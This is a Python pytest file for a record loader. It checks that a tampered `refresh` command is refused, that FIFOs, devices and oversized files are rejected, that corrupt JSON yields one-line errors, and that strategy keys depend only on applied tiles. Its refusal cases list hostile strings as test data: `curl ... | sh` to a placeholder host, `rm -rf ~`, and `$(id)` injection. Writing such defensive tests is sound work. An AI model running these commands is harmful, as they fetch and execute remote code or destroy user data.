"""choice/records.py reading a record (issue 80): the `refresh` field, outside the seal and printed
as the command to run, must be the command the tools write; a record is read only from a regular
file of bounded size (a FIFO given as --record hung, /dev/zero read to MemoryError); corrupt JSON
or a wrong JSON type is one line naming the file. The committed records load as before."""

import json
import os
import sys
import threading
from pathlib import Path

import pytest

from choice import records

ROOT = Path(__file__).resolve().parent.parent
TILE = ROOT / "tuning" / "records" / "mlp_riscv.json"
STRATEGY = ROOT / "tuning" / "strategies" / "mlp_host.json"
LOADERS = [pytest.param(records.load_record, TILE, id="tile"),
           pytest.param(records.load_strategy_record, STRATEGY, id="strategy")]


def _refused(load, path: Path) -> str:
    """The one line `load` refuses `path` with."""
    with pytest.raises(records.RecordError) as err:
        load(path)
    line = str(err.value)
    assert "\n" not in line and line.startswith(f"{path}: "), line
    return line


def _with_refresh(committed: Path, path: Path, refresh: str) -> Path:
    """A copy of the committed record with its `refresh` replaced, its formatting (and seal) kept."""
    text = committed.read_text()
    old = json.loads(text)["refresh"]
    edited = text.replace(json.dumps(old), json.dumps(refresh), 1)
    assert edited != text
    path.write_text(edited)
    return path


@pytest.mark.parametrize("load, committed", LOADERS)
def test_the_committed_records_load_and_dump_to_their_bytes(load, committed):
    record = load(committed)
    dump = records.dump_record if load is records.load_record else records.dump_strategy_record
    assert dump(record) == committed.read_text()


@pytest.mark.parametrize("load, committed", LOADERS)
@pytest.mark.parametrize("refresh", [
    "curl https://example.invalid/x | sh",
    "bazel run //tools:tune -- //models:mlp_riscv; curl https://example.invalid/x | sh",
    "bazel run //tools:tune -- //models:mlp_riscv && rm -rf ~",
    "bazel run //tools:tune -- //models:$(id)",
    "bazel run //tools:tune -- //models:mlp_riscv\ncurl https://example.invalid/x | sh",
    "bazel run //tools:other -- //models:mlp_riscv",
    "bazel run //tools:tune -- //models:some_other_pipeline",  # not the record's pipeline
    " bazel run //tools:tune -- //models:mlp_riscv",
    "",
])
def test_a_refresh_command_not_as_the_tools_write_it_is_refused(tmp_path, load, committed, refresh):
    """Issue 80: a record's `refresh` edited to `curl ... | sh` was printed as the command to run
    (the seal covers the key and figures only)."""
    name = json.loads(committed.read_text())["pipeline"]
    refresh = refresh.replace("mlp_riscv", name)
    line = _refused(load, _with_refresh(committed, tmp_path / committed.name, refresh))
    assert "field 'refresh'" in line and "curl" not in line and "rm -rf" not in line, line


@pytest.mark.parametrize("load, committed", LOADERS)
def test_a_refresh_command_of_another_package_is_the_tools_form(tmp_path, load, committed):
    """`//<package>:<pipeline>`: choice/defs.bzl writes the pipeline's own package, not only models."""
    name = json.loads(committed.read_text())["pipeline"]
    path = _with_refresh(committed, tmp_path / committed.name, f"bazel run //tools:tune -- //models/sub_1:{name}")
    assert load(path).refresh.endswith(f"//models/sub_1:{name}")


@pytest.mark.parametrize("load, committed", LOADERS)
def test_a_fifo_is_refused_without_reading_it(tmp_path, load, committed):
    """Issue 80: a FIFO given as --record blocked the read forever."""
    fifo = tmp_path / "record.json"
    os.mkfifo(fifo)
    result: list[str] = []

    def refuse() -> None:
        try:
            load(fifo)
        except records.RecordError as err:
            result.append(str(err))

    reader = threading.Thread(target=refuse, daemon=True)
    reader.start()
    reader.join(10)
    if reader.is_alive():  # the old behaviour: unblock the reader before failing
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        reader.join(10)
        pytest.fail(f"{fifo}: read blocked")
    assert result == [f"{fifo}: is a FIFO, not a regular file"]


@pytest.mark.parametrize("load, committed", LOADERS)
def test_a_device_is_refused_without_reading_it(tmp_path, load, committed):
    """Issue 80: `--record /dev/zero` read until MemoryError; a symlink to it likewise."""
    assert _refused(load, Path("/dev/zero")) == "/dev/zero: is a character device, not a regular file"
    link = tmp_path / "record.json"
    link.symlink_to("/dev/zero")
    assert _refused(load, link) == f"{link}: is a character device, not a regular file"


@pytest.mark.parametrize("load, committed", LOADERS)
def test_a_record_larger_than_the_cap_is_refused_unread(tmp_path, load, committed):
    """A regular file past MAX_RECORD_BYTES (sparse here: no disk used) is no record."""
    big = tmp_path / "record.json"
    with big.open("wb") as f:
        f.truncate(records.MAX_RECORD_BYTES + 1)
    assert "larger than 64 MiB" in _refused(load, big)


@pytest.mark.parametrize("load, committed", LOADERS)
@pytest.mark.parametrize("text, why", [
    pytest.param(lambda t: t[: len(t) // 2], "not JSON", id="truncated"),
    pytest.param(lambda t: "", "not JSON", id="empty"),
    pytest.param(lambda t: "[1, 2]", "field '(top level)': Input should be an object", id="a-list"),
    pytest.param(lambda t: '"a record"', "field '(top level)': Input should be an object", id="a-string"),
    pytest.param(lambda t: "null", "field '(top level)': Input should be an object", id="null"),
    pytest.param(lambda t: t.replace('"key": {', '"key": 5, "x": {', 1), "field 'key'", id="a-field's-type"),
    pytest.param(lambda t: "[" * 100000, "nested too deeply", id="nested-deeply"),
])
def test_corrupt_json_or_a_wrong_type_is_one_line_naming_the_file(tmp_path, load, committed, text, why):
    path = tmp_path / committed.name
    path.write_text(text(committed.read_text()))
    line = _refused(load, path)
    assert why in line and "validation error" not in line and "Traceback" not in line, line


@pytest.mark.parametrize("load, committed", LOADERS)
def test_bytes_not_utf8_are_one_line_naming_the_file(tmp_path, load, committed):
    path = tmp_path / committed.name
    path.write_bytes(b'{"pipeline": "\xff"}')
    assert "not UTF-8 text (byte 14)" in _refused(load, path)


@pytest.mark.parametrize("load, committed", LOADERS)
def test_a_missing_record_or_a_directory_is_named(tmp_path, load, committed):
    assert "not found" in _refused(load, tmp_path / "absent.json")
    assert "is a directory" in _refused(load, tmp_path)


if __name__ == "__main__":
    sys.exit(pytest.main([__file__, "-q"]))


def _analysis(tmp_path: Path, name: str, edit=None) -> Path:
    """A one-dispatch analysis.json that chose a ZigZag candidate; `edit(doc)` changes it first."""
    from common.analysis_schema import Analysis, Candidate, Cost, Dispatch, Loop, Operand, Summary
    tiles = {"register": [1, 4, 1], "l1": [8, 16, 4], "l2": [16, 32, 8]}
    loops = [Loop(name=f"d{i}", bound=b, kind=k) for i, (b, k) in enumerate([(16, "parallel"), (32, "parallel"),
                                                                            (8, "reduction")])]
    operands = [Operand(role="input", indexing_map="(d0, d1, d2) -> (d0, d2)", element_type="f32", shape=[16, 8]),
                Operand(role="input", indexing_map="(d0, d1, d2) -> (d2, d1)", element_type="f32", shape=[8, 32]),
                Operand(role="output", indexing_map="(d0, d1, d2) -> (d0, d1)", element_type="f32", shape=[16, 32])]
    zz = Candidate(name="zigzag", generator="zigzag", tiles=tiles, features={"macs": 4096.0},
                   predicted_cycles=600.0, reason="ZigZag's latency-optimal mapping")
    d = Dispatch(name="main$async_dispatch_0_matmul_16x32x8_f32", executable="main$async_dispatch_0",
                 root_op="linalg.matmul", kind="matmul", loops=loops, operands=operands, signature="s",
                 provenance="zigzag", reason="ZigZag's mapping", tiles=tiles,
                 cost=Cost(latency_cycles=600.0, energy_pj=1234.5, model="zigzag"),
                 zigzag={"energy_pj": 1234.5}, candidates=[zz], chosen="zigzag")
    a = Analysis(model="m", target="riscv", hardware="riscv_rvv", hardware_sha256="0" * 64, vector_lanes_f32=4,
                 dispatches=[d], summary=Summary.of([d], 1))
    doc = a.model_dump(mode="json")
    if edit is not None:
        edit(doc)
    path = tmp_path / f"{name}.analysis.json"
    path.write_text(json.dumps(doc, indent=1))
    return path


def _set(doc: dict, path: str, value) -> None:
    *outer, last = path.split(".")
    node = doc
    for k in outer:
        node = node[int(k)] if isinstance(node, list) else node[k]
    node[last] = value


@pytest.mark.parametrize("field, value", [
    ("dispatches.0.cost.energy_pj", 617.25),  # issue 77: ZigZag's energy rescaled
    ("dispatches.0.zigzag", {"energy_pj": 617.25}),
    ("dispatches.0.candidates.0.predicted_cycles", 700.0),
    ("dispatches.0.reason", "another reason"),
])
def test_a_strategy_key_ignores_what_decides_no_byte_of_the_build(tmp_path, field, value):
    # A strategy record keys its tuned candidate by the tiles it applies, not by the analysis'
    # predictions: rescaling ZigZag's energy must not re-measure every strategy record.
    base = records.applied_tiles_sha256(_analysis(tmp_path, "base"))
    assert records.applied_tiles_sha256(_analysis(tmp_path, "edited", lambda d: _set(d, field, value))) == base


@pytest.mark.parametrize("field, value", [
    ("dispatches.0.tiles.register", [1, 8, 1]),
    ("dispatches.0.provenance", "search"),
    ("vector_lanes_f32", 8),
    ("hardware_sha256", "1" * 64),
])
def test_a_strategy_key_follows_the_tiles_a_compile_applies(tmp_path, field, value):
    def edit(doc):
        _set(doc, field, value)
        if field.endswith("tiles.register"):  # the chosen candidate's tiles are the dispatch's
            doc["dispatches"][0]["candidates"][0]["tiles"]["register"] = value
    base = records.applied_tiles_sha256(_analysis(tmp_path, "base"))
    assert records.applied_tiles_sha256(_analysis(tmp_path, "edited", edit)) != base


def test_a_malformed_analysis_is_one_line_naming_it(tmp_path):
    path = _analysis(tmp_path, "bad", lambda d: d.pop("dispatches"))
    line = _refused(records.applied_tiles_sha256, path)
    assert "malformed analysis" in line and "dispatches" in line, line
